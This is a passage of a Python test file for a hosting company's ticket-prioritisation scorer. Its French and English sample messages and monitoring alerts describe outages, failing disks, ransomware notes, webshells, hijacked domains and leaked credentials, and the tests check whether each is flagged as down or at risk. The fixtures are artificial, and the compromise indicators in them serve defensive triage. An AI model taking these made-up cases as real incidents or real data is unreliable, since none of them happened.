    ("Depuis 7h les bons de livraison ne sont plus générés, l'entrepôt attend.", "ne sont plus générés"),
    ("Invoices aren't being generated since last night's run; accounts noticed at 9.", "aren't being generated"),
    # The shop's own notices of new orders stopped, said calmly.
    ("Pas urgent, mais depuis hier je ne reçois plus les notifications de nouvelles commandes.",
     "je ne recois plus les notifications"),
    ("Depuis ce matin nos mails sont refusés par Gmail.", "refusés par', 'sont refusés"),
    # What used to arrive by itself: orders pulled from the marketplaces, mail from outside, orders placed.
    ("Depuis votre migration, nos commandes Amazon ne redescendent plus dans le back-office.", "ne redescendent plus"),
    ("Nobody in the office has received an external email since about 2am.", "received an external email"),
    ("Trois clientes ont commandé ce matin et ces commandes n'arrivent nulle part.", "n'arrivent nulle part"),
    # Their visitors' browsers warn them off; callers fail on a chain our renewal left incomplete.
    ("Une fois sur deux, nos clients ont une page « Attention : risque probable de sécurité ».",
     "risque probable de sécurité"),
    ("Since the renewal our payment provider's callbacks fail: unable to get local issuer certificate.",
     "callbacks fail"),
    ("Order confirmations and password resets haven't gone out since about 16:00.", "haven't gone out"),
    ("Since 16:10 the order emails from our webshop no longer arrive in our Office 365 mailboxes.",
     "no longer arrive"),
    ("Le site est en certificat expiré depuis samedi, pas de paiement sans cadenas.", "certificat expiré depuis"),
    ("We have about 1,900 emails stuck, including purchase orders for December.", "emails stuck"),
    ("Two colleagues say their phones can't get email at all now.", "can't get email"),
    ("Depuis votre changement de mots de passe, plus personne au cabinet ne peut envoyer de mail.",
     "ne peut envoyer de mail"),
])
def test_what_a_business_no_longer_gets_or_reaches_reads_as_down(text, down):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["down"].startswith(f"said it is down: '{down}")  # as written, cut to the explanation's room


@pytest.mark.parametrize("text", [
    "Pour notre registre des traitements (RGPD), pouvez-vous indiquer où sont stockées les données de nos clients ?",
    "Our auditor's supplier questionnaire asks whether personal data is encrypted at rest and where it is hosted.",
])
def test_paperwork_about_their_data_is_not_a_risk(text):
    h = heat([customer(at(0), text)], at(1))
    assert "risk" not in terms(h)


def test_threatening_to_go_to_the_regulator_is_not_a_risk():
    text = "Je me suis désinscrit DEUX FOIS de votre lettre commerciale et je la reçois encore. Je vais saisir la CNIL."
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))
    leak = "Un fichier clients est en ligne depuis hier ; nous allons devoir notifier la CNIL sous 72 heures."
    assert "risk" in terms(heat([customer(at(0), leak)], at(1)))


def test_a_leak_is_a_risk_even_when_they_mention_the_gdpr():
    text = ("Un client nous signale qu'un export avec les données de nos clients est accessible publiquement sur "
            "notre site. C'est grave je suppose (RGPD) ?")
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Pouvez-vous transférer notre domaine chez vous ? Je n'ai rien demandé à l'ancien registrar pour l'instant.",
    "We'd like to transfer the domain to you next month; we didn't request the auth code yet.",
])
def test_a_transfer_they_ask_for_is_not_at_risk(text):
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "We've been charged TWICE for the November invoice, please refund one.",
    "Bonjour, vous m'avez prélevé deux fois l'abonnement ce mois-ci, merci de corriger.",
])
def test_being_charged_twice_by_us_is_billing_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Hello, no email from you since Monday about the migration: any news?",
    "Bonjour, pas de message de votre part depuis mardi, où en est-on ?",
    "Bonjour, pas de retour depuis jeudi sur le devis.",
    "Nobody can tell me why our invoice doubled this month.",
    "Personne ne peut me répondre ? Ça fait trois jours.",
])
def test_no_answer_from_us_since_a_day_is_a_chase_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Bonjour, je suis à Rungis, mes clients restaurateurs passent leur commande avant 5h et la page commande "
    "tourne dans le vide (le petit rond) depuis 20 minutes. Trois chefs m'ont déjà appelé.",
    "Hello, since the update this afternoon our checkout page just spins forever, the little wheel never stops.",
])
def test_a_site_broken_in_words_no_list_holds_reads_as_an_outage(text):
    broken = [customer(at(0), text)]
    chore = [customer(at(-24), "Hello, could you add an SFTP account for our new designer? Thanks.")]
    read, chore_heat = heat(broken, at(0, 20)), heat(chore, at(0, 20))
    assert terms(read)["down"].startswith("reads as an outage: '")
    assert read.score > chore_heat.score
    # Without the reader only the lexicon's words count, and the day-old chore stays above it.
    unread = score(fold_events(broken, reads_outage=None), opened_at=at(0), now=at(0, 20), status="open",
                   tier="standard")
    assert "down" not in terms(unread) and unread.score < chore_heat.score


@pytest.mark.parametrize("text", [
    "Bonjour, pourriez-vous nous envoyer la facture de novembre au nom de l'association ? Merci.",
    "Hi, could you add an SFTP account for our new designer? Thanks.",
    "Bonjour, notre logo est un peu flou sur mobile depuis la nouvelle page d'accueil. Rien d'urgent.",
    # One payment of theirs to us is a billing question.
    "My payment for your invoice failed, can you resend the link?",
    # An English "refuses" is not the French "refusés" (mails refused).
    "Hi, could you raise upload_max_filesize to 64M? Our podcast episodes are 50 MB and WordPress refuses them.",
])
def test_a_request_that_is_no_outage_does_not_read_as_one(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("notes, said", [
    (["[CRIT] ded-112.par1 md0: array degraded, /dev/sda1 marked faulty (1 of 2 devices active)"],
     "a note says data or security is at risk: 'array degraded', 'marked faulty'"),
    (["[CRIT] smtp-out-1 listed on Spamhaus. All relayed mail is rejected by Gmail and Outlook.",
      "Compromised mailbox sending phishing; I changed its password, the queue is still there. EU: purge it."],
     "a note says data or security is at risk: 'compromised', 'phishing'"),
])
def test_a_case_only_the_monitoring_wrote_on_says_what_is_at_stake(notes, said):
    alert = [note(at(i / 2), text) for i, text in enumerate(notes)]
    chore = [customer(at(-24), "Hello, could you add an SFTP account for our new designer? Thanks.")]
    now = at(len(notes))
    assert terms(heat(alert, now))["risk"] == said
    assert heat(alert, now).score > heat(chore, now).score


@pytest.mark.parametrize("text", [
    "Suite à la panne serveur du 18 mai (45 minutes d'indisponibilité), notre direction demande un rapport d'incident "
    "complet. Aucune urgence, ça peut attendre lundi.",
    "We need a full RCA for the outage on Tuesday, our board meets next week.",
    # The outage told with its end.
    "Notre site a été inaccessible entre 3h40 et 6h du matin d'après notre outil de surveillance. Je souhaite savoir "
    "quel dédommagement est prévu.",
    "Our uptime monitor shows app-pp-01 went down at 01:15 UTC and came back at 04:02. Could you confirm it was the "
    "cooling incident, for our records?",
])
def test_a_report_asked_on_an_outage_that_ended_is_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))
    again = text + " Et c'est encore en panne ce matin !"
    assert "down" in terms(heat([customer(at(0), again)], at(1)))


def test_a_monitor_saying_the_site_came_back_ends_what_its_alert_said_was_down():
    alert = note(at(0), "[CRITICAL] HTTP check www.brightwaterdental.co.uk / Result: timeout after 10 s")
    assert "down" in terms(heat([alert], at(1)))
    for back in ("[RECOVERY] HTTP check www.brightwaterdental.co.uk - OK, 200 in 0.84 s",
                 "Flapped twice during the DDoS filtering rollout, site stable since 01:41 UTC."):
        assert "down" not in terms(heat([alert, note(at(0, 5), back)], at(1)))


@pytest.mark.parametrize("notes, said", [
    (["[CRITICAL] smtp-out-03 : IP 192.0.2.26 listée sur Spamhaus (SBL/XBL) et Barracuda. 312 clients utilisent "
      "ce relais."], "a note says it is down: 'listée sur spamhaus'"),
])
def test_a_relay_on_a_blocklist_is_mail_down_for_everyone_on_it(notes, said):
    h = heat([note(at(i / 2), text) for i, text in enumerate(notes)], at(1))
    assert terms(h)["down"] == said


@pytest.mark.parametrize("text, said", [
    # The payment page returns the server's error page to every probe...
    ("HTTP probe https://www.cellarandvine.co.uk/checkout: 500 Internal Server Error (3/3 probes)",
     "'internal server error'"),
    ("ALERT CRITICAL https://www.hartwell-retail.co.uk/checkout/ — HTTP 500 (3 consecutive checks).", "'http 500'"),
    # ...or the database behind it is stopped.
    ("ALERT CRITICAL db01.hartwell-retail.internal: mysqld not running. First failed check 01:54 UTC.",
     "'not running'"),
])
def test_a_monitor_that_finds_it_broken_reads_as_down_before_the_customer_writes(text, said):
    # Nobody has told the customer yet: the monitoring's note is all the case holds.
    alert = note(at(0), text)
    loud = [customer(at(0), "THE FTP IS SO SLOW TODAY!!! Uploading our catalogue takes forever.")]
    assert terms(heat([alert], at(1)))["down"] == f"a note says it is down: {said}"
    assert heat([alert], at(1)).score > heat(loud, at(1)).score


def test_a_disk_the_monitoring_says_is_nearly_full_is_slow_not_down():
    alert = [note(at(0), "[CRIT] mut-07.par2 filesystem /var/www usage 97% (threshold 95%)")]
    assert terms(heat(alert, at(1))) == {"slow": "a note says it is slow or nearly full: 'filesystem /var/www usage 97%'",
                                         "age": "open 1 h"}


@pytest.mark.parametrize("events, due", [
    # The monitoring's notes on a case nobody has told the customer about...
    ([note(at(0), "Alerte automatique : db-01 /var/lib/mysql 88 % (seuil 85 %). Croissance +2,1 %/h."),
      note(at(1), "Alerte automatique : db-01 /var/lib/mysql 91 % (seuil critique 90 %). Estimation de saturation : ~4h.")],
     "Tue 24 Nov 06:00 (their time) in 3 h"),
    # ...or the alert a customer forwards without knowing what it means.
    ([customer(at(1), "Hi, got this automated email, is it something to worry about?\n\n"
               "    [ALERT] db01.morgan-joinery  /var/lib/mysql  97% used (growth 0.8%/h over last 6h)\n\nCheers, Rhys")],
     "Tue 24 Nov 05:45 (their time) in 3 h"),
])
def test_a_disk_filling_at_the_rate_an_alert_gives_falls_due_when_it_is_full(events, due):
    h = heat(events, at(2))
    assert terms(h)["deadline"] == f"a disk fills at the rate reported {due}"
    # ...above a chore asked this night (without the rate, the alert is a disk nearly full: below it).
    chore = [customer(at(-2), "Hello, could you add an SFTP account for our new designer? Thanks.")]
    assert h.score > heat(chore, at(2)).score
    # Once we write to them, what we did about it is in our reply.
    answered = heat([*events, us(at(2, 30), "Bonjour, j'ai purgé les binlogs, le disque est à 40 %.")], at(3))
    assert "deadline" not in terms(answered)


def test_once_the_customer_has_written_an_engineer_s_note_says_nothing_of_what_is_broken():
    invoice = [customer(at(0), "Bonjour, pourriez-vous m'envoyer la facture de novembre ? Merci."),
               note(at(0, 10), "Attention : le site de ce client était en panne la semaine dernière (502).")]
    assert not {"down", "risk", "slow"} & set(terms(heat(invoice, at(1))))



def monitor(when, text, name="monitoring"):
    return Event(when, "note", "internal", name, text, "note")


def test_the_monitoring_s_new_alert_counts_after_the_conversation_started():
    # The mirror lost a disk; we agreed a swap with the customer, then the surviving disk starts failing.
    events = [monitor(at(0), "CRITICAL ded-uk-0907: md0 RAID1 degraded, sda FAILED. Array running on sdb only."),
              us(at(1), "Hi Daniel, one of the two disks has failed; may we hot-swap it tomorrow at 10:00 UTC?"),
              customer(at(2), "Yes, go ahead. Daniel"),
              note(at(20), "Swap reporté : pas de disque de rechange au DC, livraison lundi.")]
    agreed = heat(events, at(30))
    assert "risk" not in terms(agreed)  # our answer covered the first alert; an engineer's note is no news
    failing = [*events, monitor(at(28), "WARNING ded-uk-0907 sdb SMART: Reallocated_Sector_Ct 8 -> 212 in 6h, "
                                        "Current_Pending_Sector 40.", name="Zabbix")]
    h = heat(failing, at(30))
    assert terms(h)["risk"] == "a note says data or security is at risk: 'pending sector', 'reallocated sector'"
    assert h.score > agreed.score + 20



def test_a_certificate_expiring_with_its_renewal_failed_is_a_deadline_at_which_the_site_breaks():
    # The monitoring's alert: the payment API's certificate expires in 53 minutes, renewal failed three times.
    alert = monitor(at(0), "[CRITICAL] TLS check api.quaylinkpay.co.uk:443\nCertificate expires: 2026-11-24 01:53 UTC "
                           "(in 0d 0h 53m)\nRenewal job: FAILED 3/3", name="zabbix")
    h = heat([alert], at(0, 10))
    assert terms(h)["deadline"] == "their deadline Tue 24 Nov 01:53 (their time) in 1 h"
    # ...above a customer angry about a price change, waiting six hours.
    angry = heat([customer(at(-6), "Your new prices are outrageous. Call me today."),
                  customer(at(-3), "Still nothing?! Call me.")], at(0, 10))
    assert h.score > angry.score
    # A launch at the same moment is their deadline too, with the points of a deadline: nothing breaks by itself.
    expiry = monitor(at(0), "Certificate expires: 2026-11-24 08:00 UTC. Renewal job: FAILED 3/3", name="zabbix")
    launch = customer(at(0), "Bonjour, notre mise en ligne est ce matin à 8h, merci de vérifier le DNS.")
    points = [next(t.points for t in heat([e], at(1)).terms if t.name == "deadline") for e in (expiry, launch)]
    assert points[0] > points[1] + 10

def test_our_holding_promise_on_what_is_still_broken_cools_it_less_than_an_answer():
    spam = [customer(at(0), "Since 7 this morning my inbox is filling up with 'Undeliverable' messages for emails I "
                            "never sent, hundreds of them. Is someone using my account??")]
    holding = heat([*spam, us(at(0, 16), "Hi Gareth, that does look like someone else is sending through your "
                                         "account. I'm looking at it and will get back to you.", "ciaran")], at(0, 40))
    answered = heat([*spam, us(at(0, 16), "Hi Gareth, could you tell us which devices use this mailbox?", "ciaran")],
                    at(0, 40))
    assert "risk" in terms(holding) and "risk" not in terms(answered)
    cooling = {t.name: t.points for t in holding.terms}["cooling"]
    assert -0.35 * (holding.score - cooling) < cooling < 0  # cooled, less than the answered factor's 40 %
    # ...above a question on enforcing 2FA, unanswered since yesterday.
    chore = heat([customer(at(-20), "Hello, after reading about a few breaches we'd like to enforce two-factor "
                                    "authentication on webmail for all our users. How do we do that?")], at(0, 40))
    assert holding.score > chore.score

def test_a_machine_s_alert_since_our_last_word_is_not_cooled_by_a_pending_status():
    # The migration is done and the case left pending for a day of observation; then the probe fails.
    migrated = [Event(at(0), "message", "out", "support", "Votre site sera migré mercredi à 8h.", "email",
                      broadcast=True),
                note(at(17), "Migration faite, DNS basculé. Ticket mis en attente pour 24h d'observation.")]
    probe = monitor(at(26), "Sonde HTTP ateliers-du-marais.fr : KO depuis 16:20 UTC (HTTP 500).", name="supervision")
    h = heat([*migrated, probe], at(27), status="pending")
    assert "cooling" not in terms(h) and terms(h)["down"] == "a note says it is down: 'http 500'"
    chore = heat([customer(at(3), "Could you add an SFTP account for our designer? Thanks.")], at(27))
    assert h.score > chore.score
    # Once we write to the customer about it, their turn may cool it again.
    told = heat([*migrated, probe, us(at(26, 30), "Bonjour, votre site renvoie une erreur depuis la migration : "
                                                  "j'ai corrigé le mot de passe de la base, il répond de nouveau.")],
                at(27), status="pending")
    assert "cooling" in terms(told) and told.score < h.score

@pytest.mark.parametrize("text, said", [
    ("CRITICAL: md0 degraded on ded-4412 - /dev/sdb removed from array.", "'md0 degraded'"),
    ("WARNING: SMART /dev/sda Reallocated_Sector_Ct=312 (was 8 yesterday)", "'reallocated sector'"),
    ("smartd: /dev/sdb has 48 pending sectors while md1 rebuilds from it", "'pending sectors'"),
])
def test_a_failing_mirror_in_the_words_monitors_use_is_at_risk(text, said):
    assert terms(heat([monitor(at(0), text)], at(1)))["risk"] == f"a note says data or security is at risk: {said}"


@pytest.mark.parametrize("future, present", [
    ("Vous faites une maintenance EN PLEINE RENTRÉE ??? Je veux savoir à quelle heure mon site sera coupé.",
     "Vous faites une maintenance EN PLEINE RENTRÉE ??? Depuis une heure mon site est coupé."),
    ("Please tell me how long the shop would be offline during the upgrade, and when.",
     "Please tell me why the shop is offline since the upgrade, and when it comes back."),
])
def test_what_will_be_cut_is_not_down(future, present):
    assert "down" not in terms(heat([customer(at(0), future)], at(1)))
    assert "down" in terms(heat([customer(at(0), present)], at(1)))


@pytest.mark.parametrize("message, said", [
    # The database's own words for a damaged table or page, in the cron mail they ask about.
    ("Bonjour, je reçois chaque nuit ce mail « Cron Daemon », est-ce que je peux le désactiver ?\n\n"
     "mysqldump: Got error: 145: Table './shop/ps_orders' is marked as crashed and should be repaired",
     "'marked as crashed'"),
    ("FYI, our restore test failed: ERROR: invalid page in block 88213 of relation base/16384/24597",
     "'invalid page in block'"),
    ("3 of 212 objects in the backup bucket have a checksum mismatch. Production is not affected right now.",
     "'checksum mismatch'"),
    ("Bonjour, nos sauvegardes sont corrompues d'après le test de restauration de cette nuit.",
     "'sauvegardes sont corrompues'"),
])
def test_a_damaged_table_or_backup_told_calmly_is_at_risk(message, said):
    h = heat([customer(at(0), message)], at(1))
    assert terms(h)["risk"] == f"said data or security is at risk: {said}"
    chore = heat([customer(at(-8), "Could you add an SFTP account for our designer? Thanks.")], at(1))
    assert h.score > chore.score


def test_an_alert_the_customer_forwards_says_what_is_at_risk_a_reply_they_quote_does_not():
    alert = ("DegradedArray event on /dev/md1:srv-cdm-01\n\nThis is an automatically generated mail message from "
             "mdadm\nrunning on srv-cdm-01\n\nA DegradedArray event had been detected on md device /dev/md1.")
    asked = "Bonjour,\n\nJe reçois ce mail depuis hier soir, je ne sais pas si c'est normal ou si je peux l'ignorer ?\n\n"
    forwarded = heat([customer(at(0), f"{asked}-------- Message transféré --------\nDe : root@srv-cdm-01\n"
                                      f"Objet : {alert}\n\nMerci,\nPierre")], at(2))
    assert terms(forwarded)["risk"] == "said data or security is at risk: 'degradedarray'"
    loud = heat([customer(at(-2), "MÉMOIRE PLEINE !!! Ma boîte mail est à 92 %, c'est inacceptable !!!")], at(2))
    assert forwarded.score > loud.score
    # Replying to our incident update, they quote it: what it says is broken is ours, not theirs.
    reply = ("Got your incident email. We only host the website with you, so I assume we're not affected?\n\n"
             "On Fri, 26 Nov 2027 at 19:40, Status <status@example.net> wrote:\n"
             "> [Incident] Mail delivery delays: incoming mail is not delivered, our mail servers are down.\n")
    assert not {"down", "risk"} & set(terms(heat([customer(at(0), reply)], at(1))))


@pytest.mark.parametrize("text", [
    "Your maintenance email was sent on 22 January. Our contract states 10 working days' notice. This is a breach. "
    "Please reschedule or confirm compensation.",
    "Yesterday's outage breached the 99.95% availability in our agreement. This is the SECOND breach this year.",
])
def test_a_breach_of_contract_is_no_risk_to_their_data(text):
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))
    assert "risk" in terms(heat([customer(at(0), "We've been breached: customer passwords are on a forum.")], at(1)))


def test_files_encrypted_with_a_ransom_note_is_at_risk_however_casually_said():
    text = ("Salut, petite question : sur le mutualisé de notre client, tous les fichiers de /www ont pris une "
            "extension .locked depuis ce matin et il y a un README à la racine qui réclame 0,05 BTC. Pas urgent, "
            "le client n'a pas encore remarqué.")
    h = heat([customer(at(0), text)], at(1))
    assert "risk" in terms(h) and "btc" in terms(h)["risk"] and "calm" not in terms(h)
    loud = heat([customer(at(-18), "Vos nouveaux tarifs sont INADMISSIBLES, je veux une explication !!!")], at(1))
    assert h.score > loud.score


@pytest.mark.parametrize("text", [
    "Bonjour, je crois que j'ai fait une bêtise : j'ai cliqué sur « Réinitialiser l'hébergement ». Nous n'avons pas "
    "de sauvegarde de notre côté. Ce n'est pas urgent, le prochain concert n'est qu'en mars.",
    "Hi, quick one: the nightly report says our backups have failed since the 15th. No rush, the site still works.",
])
def test_their_only_copy_going_is_at_risk_even_when_they_say_it_is_not_urgent(text):
    h = heat([customer(at(0), text)], at(1))
    assert "risk" in terms(h) and "calm" not in terms(h)
    cosmetic = heat([customer(at(0), "Your SSH login banner has a typo!!! Please fix it IMMEDIATELY.")], at(2))
    assert h.score > cosmetic.score


LOUD_20_HOURS = [customer(at(-20), "Bonjour, notre facture porte toujours l'ancienne raison sociale. Merci de corriger."),
                 customer(at(-1), "TROISIÈME DEMANDE. J'attends la correction AUJOURD'HUI, c'est inacceptable !!!")]


@pytest.mark.parametrize("text, said", [
    ("Hello, probably nothing, but our site redirects to a casino when you come from Google. Have we been hacked?",
     "hacked"),
    # Their stored business gone, in plain words (no lexicon phrase): a restore that brought back the wrong day.
    ("Merci pour la restauration. En regardant ce matin, il me manque toutes les commandes entre le 10 et le 22 "
     "novembre (environ 180).", "il me manque toutes les commandes"),
    ("Hi, after the migration all our emails are gone from the shared mailbox.", "all our emails are gone"),
    ("Bonjour, nos photos ont disparu de la galerie depuis la mise à jour.", "nos photos ont disparu"),
    # ...or the copy they would fail over to no longer follows
    ("On db-standby the replication has stopped since Saturday 04:12 with error 1062.",
     "replication has stopped"),
    # ...or their domain moving away in their name
    ("Bonjour, un mail du registre me demande de valider le transfert de cave-morel.fr chez un autre "
     "prestataire. Nous n'avons jamais demandé ça, est-ce une arnaque ?", "transfert … nous n'avons jamais demande"),
    ("We've had a notice about a transfer of our domain to a registrar in Latvia, which we never requested.",
     "transfer … we never requested"),
    # ...or written over
    ("L'import de ce matin a écrasé les prix de tous nos produits, tout est décalé d'une colonne.",
     "ecrase les prix de tous nos produits"),
    ("Our sync job overwrote the descriptions of 300 products with the supplier's text.",
     "overwrote the descriptions"),
    ("Our VPS is reachable again, but orders #10482 to #10519, placed between 05:00 and 05:30 this morning, are "
     "missing from the shop admin.", "orders #10482 to #10519"),
    ("Tidying up old accounts I deleted ceo@hughesroofing.co.uk instead of cfo@. Is there any way to get it back?",
     "deleted ceo@hughesroofing.co.uk instead of"),
    ("The database seems to have rolled back to around 05:00 UTC.", "rolled back"),
    # ...or a compromise they take for an advert, or their secrets made public
    ("When customers click our link in Google on their phones they end up on a page selling cheap pharmacy "
     "products. Is this some kind of advert?", "cheap pharmacy"),
    ("Quick question: our wp-config.php with the database password has been in a public GitHub repository "
     "since 27 November. Do we need to do anything else?", "public github"),
    ("No rush, but our developer found a webshell in wp-content/uploads this morning.", "webshell"),
    ("Thanks, but the files you restored are from early November. Everything from the last four weeks is "
     "missing.", "everything from the last four weeks is missing"),
    ("Our photos have disappeared from the gallery.", "our photos have disappeared"),
    ("Thanks, I'm back in! But there are 40 emails in my Sent folder from last night that I didn't write.",
     "didn't write"),
    ("Une adhérente tombe sur un fichier de notre site avec tous nos adhérents (nom, adresse, date de naissance). "
     "Quand vous aurez un moment, il n'y a pas le feu.", "date de naissance"),
    ("Today I noticed a yellow box in the panel: Last successful backup: 14 Nov 2026 (9 days ago). No rush if "
     "it's normal.", "last successful backup"),
    # ...or a backup that did not run, said under a thank-you for something else
    ("Merci Mehdi, les écrans répondent instantanément. Par contre la sauvegarde n'a pas tourné cette nuit, "
     "c'est peut-être lié à votre modification ?", "sauvegarde n'a pas tourné"),
    ("Thanks, the site is fast now. The backup didn't run last night though.", "backup didn't run"),
    # ...or a table of their database dropped by mistake
    ("Hi, I messed up: I ran a migration against production and it dropped the `orders` table. Could you do a "
     "point-in-time restore?", "dropped the 'orders' table"),
    # ...or ransomware's note beside their renamed files, told as a curiosity
    ("Bonsoir, les fichiers du serveur partagé ont tous une extension bizarre « .akira » et il y a un fichier "
     "« akira_readme.txt » dans chaque dossier. C'est peut-être une mise à jour de votre côté ? Rien d'urgent.",
     "akira_readme.txt"),
    # ...or a folder they deleted themselves, before the night's backup overwrites the copy
    ("Bonsoir, en voulant faire du ménage par FTP, j'ai supprimé le dossier wp-content/uploads de mon site. Est-ce "
     "que la sauvegarde de cette nuit va écraser celle d'hier ?", "j'ai supprime le dossier"),
    # ...or a way in that is no longer theirs
    ("On vient de me voler mon ordinateur portable dans le TGV, ma clé SSH est dessus. Pouvez-vous la révoquer ?",
     "vient de me voler"),
    ("We had to let our developer go this afternoon, not a friendly parting. Could you please disable his access "
     "this evening?", "disable his access"),
    ("Je viens de recevoir « Votre adresse e-mail de contact a été modifiée ». Ce n'est pas moi, et je ne peux plus me "
     "connecter.", "ce n'est pas moi"),
])
def test_an_unanswered_risk_is_lifted_above_a_loud_complaint_until_we_answer(text, said):
    """At risk weighs like an outage: onto [harm_floor, 100] while nobody has answered, however calmly said."""
    at_risk = [customer(at(0), text)]
    h = heat(at_risk, at(0, 45))
    assert said in terms(h)["risk"] and "calm" not in terms(h)
    assert h.score > heat(LOUD_20_HOURS, at(0, 45)).score
    # A bare "je regarde" cools it (someone is on it) but fixes nothing: the risk is still said. A real answer ends it.
    looking = heat([*at_risk, us(at(0, 30), "Bonjour, je regarde tout de suite et je vous rappelle.")], at(0, 45))
    assert "risk" in terms(looking) and looking.score < h.score
    answered = heat([*at_risk, us(at(0, 30), "Bonjour, j'ai restauré la sauvegarde de cette nuit et changé les "
                                             "mots de passe.")], at(0, 45))
    assert "risk" not in terms(answered) and answered.score < looking.score


def test_an_outage_answered_only_by_looking_into_it_is_still_an_outage():
    """'Looking into it' names no fix and no time: once its window has run out, the site is still down for them
    and the case ranks like the outage it is; a reply with a time or a fix ends the outage term."""
    down = customer(at(0), "Our booking site has been unreachable since this morning, New Year's bookings go "
                           "through it.")
    looking = heat([down, us(at(0, 20), "Hi, I'll look into it.")], at(5))
    assert terms(looking)["down"].startswith("said it is down") and "waiting" in terms(looking)
    timed = heat([down, us(at(0, 20), "Hi, I'll look into it and call you back by 10:00.")], at(2))
    fixed = heat([down, us(at(0, 20), "Hi, the disk was full: I cleared the old logs and the site is back.")], at(5))
    assert "down" not in terms(timed) and "down" not in terms(fixed) and looking.score > fixed.score


def test_down_and_at_risk_together_stay_below_the_cap_in_order():
    """One lift, not two: two hacked sites that are also down are told apart by the rest (here a chase)."""
    said = "Our shop is down and shows a ransom note: all our files are encrypted."
    once = heat([customer(at(0), said)], at(1))
    chased = heat([customer(at(0), said), customer(at(0, 40), "Anyone there? We can't sell anything.")], at(1))
    assert "down" in terms(once) and "risk" in terms(once)
    assert once.score < chased.score < 100


@pytest.mark.parametrize("text", [
    "Il manque une pièce jointe dans votre dernier mail.",
    "The attachment is missing from your reply.",
    "J'ai perdu mon mot de passe FTP, pouvez-vous le réinitialiser ?",
    "Our AP department has rejected your invoice because the purchase order number is missing. Please reissue.",
    "The order number is missing on your last invoice.",
])
def test_something_missing_that_is_not_their_stored_business_is_not_at_risk(text):
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    'TRÈS URGENT !!!! Notre supervision affiche : "Certificat SSL de www.sudtransit.fr expire dans 25 jours".',
    'Our monitoring says "Your certificate will expire in 12 days". Please renew.',
    # Accents are folded: "certificat expiré" as a phrase would also read "le certificat expire le 3 mars".
    "Notre certificat SSL expire le 3 mars, pouvez-vous lancer le renouvellement ?",
    "Le certificat expire bientôt, on en reparle la semaine prochaine.",
])
def test_an_expiry_still_ahead_is_a_warning_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, said", [
    ("Bonjour, les erreurs 502 sont revenues depuis hier soir, comme il y a deux semaines.", "erreurs 502 sont revenues"),
    ('Hi, the backup report says "FAILED" again. This is the same as last week\'s ticket.', "the same as last week"),
    ("Le formulaire de contact ne nous envoie plus rien depuis vendredi, comme il y a trois semaines.",
     "comme il y a trois semaines"),
    ("Hi, our site gives 502 errors since 06:02 this morning. This is the same as the last two times.",
     "the same as the last two times"),
])
def test_a_problem_back_after_our_fix_counts_as_asked_before_and_says_so(text, said):
    """Our fix did not hold: the customer asked this before, in a case we may not have linked."""
    back = heat([customer(at(0), text)], at(1))
    first = heat([customer(at(0), text.split(", comme")[0].split(" This is")[0].replace(" sont revenues", " sont là"))],
                 at(1))
    assert f"said it is not the first time: '{said}'" in terms(back)["repeats"]
    assert "repeats" not in terms(first) and back.score > first.score


@pytest.mark.parametrize("text, said", [
    ("Hi, I'm opening a new ticket because my other one from Friday hasn't had any answer. The subdomain "
     "book.example.co.uk still doesn't resolve.", "opening a new ticket"),
    ("Bonjour, vous avez fermé ma demande précédente sans rien régler. Le formulaire n'envoie toujours rien.",
     "ma demande precedente"),
    ("I asked this last Wednesday and never got a reply. The folder is still missing and I need it today!",
     "i asked this last wednesday"),
    ("Each time you restart php-fpm and close the ticket. This is the third ticket. Our site is down an hour each "
     "time.",
     "third ticket"),
])
def test_asked_in_another_ticket_that_went_nowhere_counts_as_asked_before(text, said):
    """The customer had to ask again in a new ticket: a repeat, even when we did not link the tickets."""
    h = heat([customer(at(0), text)], at(1))
    assert f"said it is not the first time: '{said}'" in terms(h)["repeats"]


def test_mentioning_another_ticket_calmly_is_not_a_repeat():
    h = heat([customer(at(0), "Merci, comme convenu dans mon autre demande, voici le fichier.")], at(1))
    assert "repeats" not in terms(h)


@pytest.mark.parametrize("text", [
    "Comme la dernière fois, pouvez-vous créer une base pour le site de test ?",  # nothing wrong: a request
    "Le site est de nouveau en ligne, merci !",
])
def test_as_last_time_without_anything_wrong_is_not_a_problem_back(text):
    assert "repeats" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, down", [
    ("Le formulaire de contact de notre site n'envoie toujours rien.", "n'envoie toujours rien"),
    ("Le formulaire ne nous envoie plus rien depuis vendredi.", "ne nous envoie plus rien"),
    ("Nothing has come through the order form since the update.", "nothing has come through"),
    # ...or what they run on us fails, said in their words above the log they paste (the log is not read)
    ("Since about 08:00 our booking app fails on roughly one request in five. From our log:\n\n"
     "[2026-11-24 08:03:17] production.ERROR: SQLSTATE[HY000] [1040] TOO MANY CONNECTIONS\n"
     "[2026-11-24 08:05:52] production.ERROR: SQLSTATE[HY000] [1040] TOO MANY CONNECTIONS\n", "booking app fails"),
    ("Bonjour, le formulaire de réservation échoue à chaque envoi.", "formulaire de reservation echoue"),
    ("On n'a pas eu une seule réservation par le site depuis vendredi soir. Le site s'affiche normalement.",
     "pas eu une seule reservation par le site depuis"),
    ("Our volunteers say they can't get into the rota page any more. It just goes back to the front page.",
     "can't get into the rota page any more"),
    ("Nos mails sortants restent bloqués dans la boîte d'envoi d'Outlook depuis 7h30. La réception fonctionne.",
     "mails sortants restent bloques"),
    ("Le certificat de extranet.garnier-btp.fr a expiré cette nuit, les navigateurs bloquent l'accès.",
     "certificat de extranet.garnier-btp.fr a expire"),
    # ...or what they are sent no longer reaches them, either way round
    ("Les mails du formulaire de réservation du site ne nous arrivent plus depuis au moins une semaine.",
     "mails du formulaire de reservation du site ne nous arrivent"),
    ("Since Wednesday we haven't received any emails from the contact form on our website.",
     "since wednesday we haven't received any emails"),
